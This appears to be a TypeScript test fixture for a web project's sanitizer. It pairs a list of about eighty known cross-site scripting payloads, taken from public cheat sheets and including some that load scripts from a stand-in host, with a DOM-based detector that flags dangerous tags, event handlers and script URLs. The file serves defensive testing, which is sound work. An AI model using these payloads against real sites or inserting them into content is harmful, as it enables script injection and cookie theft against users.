import { Window } from "happy-dom";

// Known XSS payloads (OWASP's filter-evasion cheat sheet, PortSwigger's list, HTML5 Security
// Cheatsheet), for every test that takes text or HTML from a visitor or the owner (the browser
// check: tests/e2e/xss.spec.ts). `findXss`
// says what in a piece of HTML could still run script; a sanitizer or renderer passes when it
// finds nothing for any payload.

export const xssPayloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '"><script>alert(document.cookie)</script>',
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JAVASCRIPT:alert(1)">click</a>',
  '<a href="java&#115;cript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="#" onclick="alert(1)">click</a>',
  '<a href="https://example.com" onmouseover=alert(1)>hover</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<body onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "https://xss.example/x.css";</style>',
  '<link rel="stylesheet" href="https://xss.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<!--<script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<img src="https://example.com/x.png" srcset="javascript:alert(1) 1x">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<isindex type=image src=1 onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  '<x onclick="alert(1)">click me</x>',
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "javascript:alert(1)",
  // Markdown's own ways in: links, pictures and raw HTML inside it.
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](  javascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  '![x](https://example.com/x.png"onerror="alert(1))',
  "<javascript:alert(1)>",
  "[a](<javascript:alert(1)>)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "`<script>` is fine in code, <script>alert(1)</script> is not",
  "# Title <img src=x onerror=alert(1)>",
  "> quote <svg/onload=alert(1)>",
  // No tag at all, so plain-text fields accept them: they go wrong only where text is put into
  // an attribute, a URL, a template or a feed unescaped, or is decoded twice.
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "]]> --> */ alert(1) //",
];

const dangerousTags = new Set([
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "style",
  "link",
  "meta",
  "base",
  "form",
  "svg",
  "math",
  "template",
  "noscript",
]);
/** Attributes whose value is a URL a browser may follow or load: a script URL there runs. */
export const urlAttributeNames = [
  "href",
  "src",
  "action",
  "formaction",
  "data",
  "background",
  "poster",
  "xlink:href",
  "srcdoc",
  "srcset",
  "cite",
];
const urlAttributes = new Set(urlAttributeNames);

/** What in `html` could run script: tags, event handlers, script URLs. Empty when harmless. */
export function findXss(html: string): string[] {
  const window = new Window();
  const document = window.document;
  const container = document.createElement("div");
  container.innerHTML = html;
  const found: string[] = [];
  for (const element of container.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (dangerousTags.has(tag)) found.push(`<${tag}>`);
    for (const { name, value: raw } of Array.from(element.attributes)) {
      const value = raw ?? "";
      const attribute = name.toLowerCase();
      if (attribute.startsWith("on")) found.push(`${tag}[${attribute}]`);
      if (attribute === "style" && /expression\(|url\(|javascript:/i.test(value))
        found.push(`${tag}[style]`);
      if (urlAttributes.has(attribute)) {
        // Browsers ignore control characters and spaces inside a scheme.
        const compact = value.replace(/[\s\p{Cc}]+/gu, "").toLowerCase();
        if (/^(javascript|vbscript|data):/.test(compact) || /(^|,)(javascript|data):/.test(compact))
          found.push(`${tag}[${attribute}=${value.slice(0, 40)}]`);
        if (attribute === "srcdoc") found.push(`${tag}[srcdoc]`);
      }
    }
  }
  void window.happyDOM.close();
  return found;
}
